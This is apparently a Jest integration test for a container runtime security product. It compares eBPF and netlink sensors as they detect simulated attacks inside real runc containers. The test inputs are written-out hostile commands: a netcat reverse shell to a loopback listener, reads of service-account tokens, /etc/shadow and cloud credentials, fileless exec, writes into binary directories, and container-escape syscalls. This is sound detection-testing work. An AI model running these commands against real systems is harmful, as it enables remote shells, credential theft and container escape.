import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { KubeView } from '../../../core/kube/kube-view.js';
import type { KubeObject } from '../../../core/kube/types.js';
import type { Detection } from '../../../core/runtime/detection.js';
import { RuleEngine } from '../../../core/runtime/rule-engine.js';
import { loadRuleSet } from '../../../core/runtime/rule-file.js';
import { builtinRuntimeRulesDir } from '../../../core/runtime/rules-dir.js';
import { RuntimeWatcher } from '../../../core/runtime/watcher.js';
import {
  type ContainerSpec,
  podOf,
  type RuncContainer,
  startContainer,
} from '../../harness/runc/runc-container.js';
import { compileStatic } from '../../harness/runc/static-program.js';

// The eBPF sensor and the process-events connector watch the same real runc containers (kubelet-style
// cgroups) at the same time: each scenario is run once and both sensors' detections are compared. The eBPF
// sensor must give exactly the expected detections; the connector's are recorded (docs/benchmarks.md,
// "Runtime sensors") and must be a subset of them — what it misses is the point of the comparison.

const pods: KubeObject[] = [];
const kube: KubeView = { list: async (kind) => (kind === 'Pod' ? pods : []), get: async () => undefined };
const SOURCES = ['ebpf', 'netlink'] as const;
type Source = (typeof SOURCES)[number];

let stateRoot: string;
let tokenFile: string;
let fexec: string;
let escapeHelper: string;
const watchers = new Map<Source, RuntimeWatcher>();
const detections = new Map<Source, Detection[]>(SOURCES.map((s) => [s, []]));
const containers: RuncContainer[] = [];
/** What the connector caught per scenario, printed at the end for docs/benchmarks.md. */
const comparison: string[] = [];

async function podContainer(
  name: string,
  spec: ContainerSpec,
  image = 'busybox:1.35',
): Promise<RuncContainer> {
  const c = await startContainer(stateRoot, spec);
  containers.push(c);
  pods.push(podOf(c, { name, namespace: 'shop', image }));
  return c;
}

/** Detections of one container per source, after `expected` eBPF ones (or 8 s) and 1.5 s more for extras. */
async function settled(c: RuncContainer, expected: number): Promise<Record<Source, Detection[]>> {
  const mine = (s: Source) => detections.get(s)!.filter((x) => x.container?.id === c.id);
  const count = (s: Source) => mine(s).reduce((n, d) => n + 1 + d.repeats, 0);
  for (let waited = 0; waited < 8000 && count('ebpf') < expected; waited += 100)
    await new Promise((r) => setTimeout(r, 100));
  await new Promise((r) => setTimeout(r, 1500));
  return { ebpf: mine('ebpf'), netlink: mine('netlink') };
}

/** Rule ids with the number of events each stands for (de-duplication folds repeats into one detection). */
function counted(found: Detection[]): Record<string, number> {
  const out: Record<string, number> = {};
  for (const d of found) out[d.ruleId] = (out[d.ruleId] ?? 0) + 1 + d.repeats;
  return out;
}

function record(scenario: string, found: Record<Source, Detection[]>): void {
  comparison.push(
    `${scenario}: ebpf ${JSON.stringify(counted(found.ebpf))}, netlink ${JSON.stringify(counted(found.netlink))}`,
  );
  // The connector may miss, and may count one process twice (it reads /proc after the event: an exec followed
  // at once by an fexecve reads as two memfd execs), but it reports no rule the kernel did not see.
  const ebpf = counted(found.ebpf);
  for (const rule of Object.keys(counted(found.netlink))) expect(Object.keys(ebpf)).toContain(rule);
}

beforeAll(async () => {
  if (process.getuid?.() !== 0)
    throw new Error('runtime container tests need root (runc, eBPF): run them as root');
  stateRoot = await mkdtemp(join(tmpdir(), 'seco-ebpf-'));
  tokenFile = join(stateRoot, 'token');
  await writeFile(tokenFile, 'eyJhbGciOiJSUzI1NiJ9.fake.token');
  // A tiny static helper that runs a program from a memfd (memfd_create + fexecve).
  const fixtures = join(import.meta.dirname, '../../fixtures/runtime');
  fexec = await compileStatic(join(fixtures, 'fexec.c'), join(stateRoot, 'fexec'));
  // One escape attempt or privilege grab per call (ptrace, setuid(0), setns, module loads, bpf).
  escapeHelper = await compileStatic(join(fixtures, 'escape.c'), join(stateRoot, 'escape'));
  for (const source of SOURCES) {
    const w = new RuntimeWatcher({
      procRoot: '/proc',
      node: 'node-1',
      rules: new RuleEngine(await loadRuleSet([builtinRuntimeRulesDir()])),
      kube,
      source,
      listenIntervalMs: 500,
      // No de-duplication here: each scenario counts events, so every match is its own detection.
      rateLimit: { dedupeWindowMs: 0, burst: 10_000, burstWindowMs: 1000 },
      onDetection: (x) => {
        if (process.env.SECO_DEBUG) process.stderr.write(`${source} ${JSON.stringify(x)}\n`);
        detections.get(source)!.push(x);
      },
      onLog: (l) => process.env.SECO_DEBUG && process.stderr.write(`${source} ${l}\n`),
    });
    await w.start();
    watchers.set(source, w);
  }
}, 60_000);

afterAll(async () => {
  for (const w of watchers.values()) w.stop();
  await Promise.all(containers.map((c) => c.remove()));
  if (stateRoot) await rm(stateRoot, { recursive: true, force: true });
  process.stdout.write(`eBPF sensor vs connector, same events:\n${comparison.join('\n')}\n`);
}, 60_000);

describe('eBPF sensor on runc containers, beside the connector', () => {
  test('each watcher uses the sensor it was given', () => {
    expect(watchers.get('ebpf')!.stats.source).toBe('ebpf');
    expect(watchers.get('netlink')!.stats.source).toBe('netlink');
  });

  test('a quiet container produces nothing', async () => {
    const c = await podContainer('quiet', {});
    const found = await settled(c, 0);
    expect(found).toEqual({ ebpf: [], netlink: [] });
  }, 30_000);

  test('twenty short token reads are twenty counted reads', async () => {
    const c = await podContainer('token', { tokenFile });
    for (let i = 0; i < 20; i++) {
      await c.exec(['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']);
      await new Promise((r) => setTimeout(r, 100));
    }
    const found = await settled(c, 20);
    // Seen once in a full CI run (17 of 20, not reproduced alone or under CPU stress): on a miss, say what
    // the sensor knows — ring-buffer drops, fallbacks, the kernel memo's counts — and what it did report.
    if (counted(found.ebpf)['service-account-token-read'] !== 20) {
      const ebpf = watchers.get('ebpf')!;
      ebpf.refreshDrops();
      process.stderr.write(
        `token reads missed: stats ${JSON.stringify(ebpf.stats)}; detections ${JSON.stringify(found.ebpf.map((d) => [d.process.pid, d.repeats, d.time]))}\n`,
      );
    }
    expect(counted(found.ebpf)).toEqual({ 'service-account-token-read': 20 });
    expect(found.ebpf[0]).toMatchObject({
      source: 'ebpf',
      pod: { namespace: 'shop', name: 'token', uid: c.podUid },
      container: { id: c.id, name: 'app' },
      process: { name: 'cat', cmdline: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token' },
      event: { type: 'open', file: '/var/run/secrets/kubernetes.io/serviceaccount/token', write: false },
    });
    record('20 token reads', found);
  }, 60_000);

  test('reading /etc/shadow', async () => {
    const c = await podContainer('shadow', {
      files: { '/etc/shadow': { content: 'root:*:19000:0:99999:7:::\n', mode: 0o600 } },
    });
    await c.exec(['cat', '/etc/shadow']);
    const found = await settled(c, 1);
    expect(counted(found.ebpf)).toEqual({ 'sensitive-file-read': 1 });
    expect(found.ebpf[0]!.event).toMatchObject({ type: 'open', file: '/etc/shadow' });
    record('shadow read', found);
  }, 30_000);

  test('a reverse shell to a loopback listener, with its remote address', async () => {
    const server: Server = createServer((socket) => setTimeout(() => socket.end('exit\n'), 300));
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as { port: number }).port;
    try {
      const c = await podContainer('revshell', { hostNetwork: true });
      await c.exec(['nc', '127.0.0.1', String(port), '-e', '/bin/sh'], { detach: true });
      const found = await settled(c, 1);
      expect(Object.keys(counted(found.ebpf))).toEqual(['reverse-shell']);
      expect(found.ebpf[0]!.output).toContain(`peer 127.0.0.1:${port}`);
      expect(found.ebpf[0]!.event?.remote).toBe(`127.0.0.1:${port}`);
      record('reverse shell', found);
    } finally {
      server.close();
    }
  }, 30_000);

  test('a fileless exec (memfd_create + fexecve)', async () => {
    const c = await podContainer('fileless', {
      files: { '/usr/local/bin/fexec': { from: fexec, mode: 0o755 } },
    });
    await c.exec(['/usr/local/bin/fexec', '/bin/busybox', 'sleep', '0.3']);
    const found = await settled(c, 1);
    expect(counted(found.ebpf)).toEqual({ 'fileless-exec': 1 });
    expect(found.ebpf[0]!.process.exe).toBe('/memfd:payload');
    record('fileless exec', found);
  }, 30_000);

  test('a write into /usr/bin', async () => {
    // The container's own entrypoint writes: no exec from outside, so nothing but the write to report.
    const c = await podContainer('writer', {
      args: ['sh', '-c', 'sleep 1; echo x > /usr/bin/evil; sleep 3600'],
      files: { '/usr/bin/.keep': { content: '' } },
    });
    const found = await settled(c, 1);
    expect(counted(found.ebpf)).toEqual({ 'write-below-binary-dir': 1 });
    expect(found.ebpf[0]!.event).toMatchObject({ type: 'open', file: '/usr/bin/evil', write: true });
    // The connector sees processes start, not files written: it cannot report this.
    expect(found.netlink).toEqual([]);
    record('write into /usr/bin', found);
  }, 30_000);

  test('apt run in a pod, five times: five counted', async () => {
    const c = await podContainer('apt', {
      files: { '/usr/bin/apt': { content: '#!/bin/sh\nexit 0\n', mode: 0o755 } },
    });
    for (let i = 0; i < 5; i++) await c.exec(['/usr/bin/apt', 'install', '-y', 'curl']);
    const found = await settled(c, 5);
    expect(counted(found.ebpf)).toEqual({ 'package-manager-in-container': 5 });
    record('apt ×5', found);
  }, 30_000);

  test('processes that exit in under a millisecond, ten times: ten counted', async () => {
    const c = await podContainer('fast', {});
    for (let i = 0; i < 10; i++) await c.exec(['/tmp/sleep', '0']);
    const found = await settled(c, 10);
    expect(counted(found.ebpf)).toEqual({ 'drift-executable-not-in-image': 10 });
    record('< 1 ms process ×10', found);
  }, 30_000);

  test('a new listening port', async () => {
    const c = await podContainer('listener', {});
    await c.exec(['nc', '-l', '-p', '8080'], { detach: true });
    const found = await settled(c, 1);
    expect(counted(found.ebpf)).toEqual({ 'new-listening-socket': 1 });
    expect(found.ebpf[0]!.output).toContain(':8080');
    record('new listening port', found);
  }, 30_000);

  test('the first outbound connection of a workload is reported once', async () => {
    const address = Object.values(networkInterfaces())
      .flat()
      .find((i) => i && i.family === 'IPv4' && !i.internal)?.address;
    if (!address) throw new Error('no non-loopback IPv4 address on this machine for an outbound connection');
    const server: Server = createServer((socket) => socket.end());
    await new Promise<void>((r) => server.listen(0, address, r));
    const port = (server.address() as { port: number }).port;
    try {
      // A workload of its own (namespace, container name and image): the others here never connect out.
      const c = await podContainer('egress', { hostNetwork: true }, 'registry.local/egress:1');
      await c.exec(['nc', address, String(port)]);
      await c.exec(['nc', address, String(port)]);
      const found = await settled(c, 1);
      expect(counted(found.ebpf)).toEqual({ 'first-outbound-connection': 1 });
      expect(found.ebpf[0]!.event?.remote).toBe(`${address}:${port}`);
      expect(found.netlink).toEqual([]); // the connector sees no sockets being connected
      record('first outbound connection', found);
    } finally {
      server.close();
    }
  }, 30_000);

  test('escape attempts: a mount and an unshare from inside a container', async () => {
    const c = await podContainer('escape', {
      files: {
        '/bin/mount': { from: '/bin/busybox', mode: 0o755 },
        '/bin/unshare': { from: '/bin/busybox', mode: 0o755 },
      },
    });
    // Both fail here (no CAP_SYS_ADMIN): the attempt is what is reported.
    await c.exec(['mount', '-t', 'proc', 'proc', '/tmp']);
    await c.exec(['unshare', '-m', 'true']);
    const found = await settled(c, 2);
    expect(counted(found.ebpf)).toEqual({ 'container-escape-mount': 1, 'container-escape-namespace': 1 });
    expect(found.ebpf.find((d) => d.ruleId === 'container-escape-mount')!.output).toContain(
      'proc on /tmp type proc',
    );
    expect(found.netlink).toEqual([]);
    record('mount + unshare', found);
  }, 30_000);

  test('reading cloud credentials and a kubeconfig', async () => {
    const c = await podContainer('creds', {
      files: {
        '/root/.aws/credentials': { content: '[default]\naws_access_key_id = AKIAEXAMPLE\n', mode: 0o600 },
        '/root/.kube/config': { content: 'apiVersion: v1\nkind: Config\n', mode: 0o600 },
      },
    });
    await c.exec(['cat', '/root/.aws/credentials', '/root/.kube/config']);
    const found = await settled(c, 2);
    expect(counted(found.ebpf)).toEqual({ 'sensitive-file-read': 2 });
    expect(found.ebpf.map((d) => d.event?.file).sort()).toEqual([
      '/root/.aws/credentials',
      '/root/.kube/config',
    ]);
    record('cloud credentials + kubeconfig read', found);
  }, 30_000);

  test('writes below /bin and /etc', async () => {
    const c = await podContainer('etc-writer', {
      args: ['sh', '-c', 'sleep 1; echo x > /bin/evil; echo y > /etc/evil.conf; sleep 3600'],
    });
    const found = await settled(c, 2);
    expect(counted(found.ebpf)).toEqual({ 'write-below-binary-dir': 2 });
    expect(found.ebpf.map((d) => d.event?.file).sort()).toEqual(['/bin/evil', '/etc/evil.conf']);
    expect(found.netlink).toEqual([]);
    record('writes below /bin and /etc', found);
  }, 30_000);

  test('ptrace of another process', async () => {
    const c = await podContainer('tracer', {
      files: { '/usr/local/bin/escape': { from: escapeHelper, mode: 0o755 } },
    });
    await c.exec(['/usr/local/bin/escape', 'ptrace']);
    const found = await settled(c, 1);
    expect(counted(found.ebpf)).toEqual({ 'ptrace-attach': 1 });
    const d = found.ebpf[0]!;
    expect(d.process.name).toBe('escape');
    // The target is the helper's child, not the tracer itself.
    const target = /ptrace request 16 on pid (\d+)/.exec(d.output)?.[1];
    expect(Number(target)).toBeGreaterThan(0);
    expect(Number(target)).not.toBe(d.process.pid);
    expect(found.netlink).toEqual([]);
    record('ptrace attach', found);
  }, 30_000);

  test('setuid(0) by a process that is not root', async () => {
    const c = await podContainer('setuid', {
      uid: 1000,
      files: { '/usr/local/bin/escape': { from: escapeHelper, mode: 0o755 } },
    });
    await c.exec(['/usr/local/bin/escape', 'setuid0']);
    const found = await settled(c, 1);
    expect(counted(found.ebpf)).toEqual({ 'setuid-to-root': 1 });
    // The container's gid is 0: busybox's own setgid(0) as it drops privileges is not reported.
    expect(found.ebpf[0]!.output).toContain('(uid 1000, gid 0)');
    expect(found.ebpf[0]!.event?.type).toBe('setuid');
    expect(found.netlink).toEqual([]);
    record('setuid(0) as uid 1000', found);
  }, 30_000);

  test("escape attempts: setns into the host init's namespace, kernel module loads, bpf()", async () => {
    const c = await podContainer('escape-ns', {
      files: {
        '/usr/local/bin/escape': { from: escapeHelper, mode: 0o755 },
        '/tmp/evil.ko': { content: '\u007fELF not really a module' },
      },
    });
    await c.exec(['/usr/local/bin/escape', 'setns', '/proc/1/ns/mnt']);
    await c.exec(['/usr/local/bin/escape', 'finit_module', '/tmp/evil.ko']);
    await c.exec(['/usr/local/bin/escape', 'init_module']);
    await c.exec(['/usr/local/bin/escape', 'bpf']);
    const found = await settled(c, 4);
    expect(counted(found.ebpf)).toEqual({
      'container-escape-namespace': 1,
      'kernel-module-load': 2,
      'bpf-from-container': 1,
    });
    const ns = found.ebpf.find((d) => d.ruleId === 'container-escape-namespace')!;
    expect(ns.event?.type).toBe('setns');
    expect(ns.output).toMatch(/escape setns \/proc\/1\/ns\/mnt mnt:\[\d+\]/);
    const modules = found.ebpf.filter((d) => d.ruleId === 'kernel-module-load').map((d) => d.output);
    expect(modules.some((o) => o.endsWith('/tmp/evil.ko'))).toBe(true);
    expect(found.ebpf.find((d) => d.ruleId === 'bpf-from-container')!.output).toContain('bpf() command 0');
    expect(found.netlink).toEqual([]);
    record('setns + module loads + bpf', found);
  }, 30_000);

  test('ring-buffer drops are counted (none at this rate)', () => {
    const w = watchers.get('ebpf')!;
    w.refreshDrops();
    expect(w.stats.lost).toBe(0);
    expect(w.stats.kernelEvents).toBeGreaterThan(0);
  });
});
